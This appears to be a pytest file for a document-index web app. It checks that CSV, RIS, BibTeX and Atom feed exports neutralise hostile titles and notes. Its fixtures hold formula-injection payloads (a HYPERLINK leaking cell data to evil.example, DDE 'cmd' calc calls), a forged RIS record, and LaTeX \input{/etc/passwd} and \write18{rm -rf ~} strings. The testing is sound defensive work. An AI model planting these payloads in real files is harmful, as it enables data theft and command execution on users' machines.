"""Exports and feeds of documents whose titles and notes are hostile: a spreadsheet shows text,
never a formula; RIS keeps one record per document; BibTeX runs no command; every feed stays
valid XML."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from xml.etree import ElementTree as ET

import pytest
from flask import Flask
from flask.testing import FlaskClient
from indexfixtures import Doc, fill, id_of, make_config

from coi.curation import audit, collections
from coi.store import open_store
from indexer.build import update_index
from web import create_app

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Click for the full report")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 detention",
    "\r=1+1 detention",
)
NEWLINE_TITLE = "Detention report\nER  - \nTY  - JOUR\nTI  - Forged record"
LATEX_TITLE = r"Detention \input{/etc/passwd} and \write18{rm -rf ~} report}"
CONTROL_TITLE = "Detention\x0b report\x00 with\x1b control characters"
TITLES = (*FORMULAS, NEWLINE_TITLE, LATEX_TITLE, CONTROL_TITLE)
DOCS = tuple(
    Doc(f"hostile-{n}", "en", title, f"Detention of asylum seekers, report {n}.", ("AZE",))
    for n, title in enumerate(TITLES)
)
NOTE = '=HYPERLINK("https://evil.example","Open")'


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    data_dir = tmp_path_factory.mktemp("hostile-web")
    config = make_config(data_dir)
    with open_store(data_dir) as store:
        fill(store, DOCS)
        found = collections.create(store, "Hostile", public=True, actor="@curator")
        for doc in DOCS:
            collections.add_document(store, found.id, id_of(doc), note=NOTE, actor="=curator")
        update_index(config, store)
    app = create_app(config)
    app.config["collection"] = found.id
    yield app
    app.extensions["coi"].engine.close()


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    return app.test_client()


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_result_csv_shows_formula_titles_as_text(client: FlaskClient) -> None:
    rows = csv_rows(client.get("/export.csv?q=detention&per_page=50").get_data(as_text=True))
    assert_no_formula(rows)
    titles = {row[0] for row in rows[1:]}
    assert {f"'{formula}" for formula in FORMULAS} <= titles


def test_collection_csv_shows_formula_titles_and_notes_as_text(
    app: Flask, client: FlaskClient
) -> None:
    text = client.get(f"/collections/{app.config['collection']}/export.csv").get_data(as_text=True)
    rows = csv_rows(text)
    assert_no_formula(rows)
    assert {row[-1] for row in rows[1:]} == {f"'{NOTE}"}


def test_audit_csv_shows_a_curators_formula_as_text(app: Flask) -> None:
    with open_store(app.extensions["coi"].config.data_dir) as store:
        rows = csv_rows(audit.to_csv(audit.entries(store)))
    assert_no_formula(rows)
    assert "'=curator" in {row[1] for row in rows}


@pytest.mark.parametrize(
    "path", ["/export.ris?q=detention&per_page=50", "/collections/{collection}/export.ris"]
)
def test_ris_keeps_one_record_per_document(app: Flask, client: FlaskClient, path: str) -> None:
    text = client.get(path.format(collection=app.config["collection"])).get_data(as_text=True)
    lines = text.splitlines()
    assert sum(line.startswith("TY  - ") for line in lines) == len(DOCS)
    assert sum(line.startswith("ER  - ") for line in lines) == len(DOCS)
    assert not any(line.startswith("TI  - Forged") for line in lines)


def test_bibtex_runs_no_command(app: Flask, client: FlaskClient) -> None:
    one = client.get(f"/api/documents/{id_of(DOCS[-2])}/cite.bib").get_data(as_text=True)
    every = client.get(f"/collections/{app.config['collection']}/export.bib").get_data(as_text=True)
    for text in (one, every):
        assert "\\input{" not in text
        assert "\\write18{" not in text
        unescaped = text.replace("\\{", "").replace("\\}", "")
        assert unescaped.count("{") == unescaped.count("}")  # no field is closed early
    assert r"\textbackslash{}input\{/etc/passwd\}" in one


@pytest.mark.parametrize("path", ["/feed?q=detention", "/collections/{collection}/feed"])
def test_feeds_stay_valid_xml_with_control_characters(
    app: Flask, client: FlaskClient, path: str
) -> None:
    body = client.get(path.format(collection=app.config["collection"])).data
    feed = ET.fromstring(body)  # raises on a character XML does not allow
    titles = [e.text for e in feed.iter("{http://www.w3.org/2005/Atom}title")]
    assert "Detention report with control characters" in titles
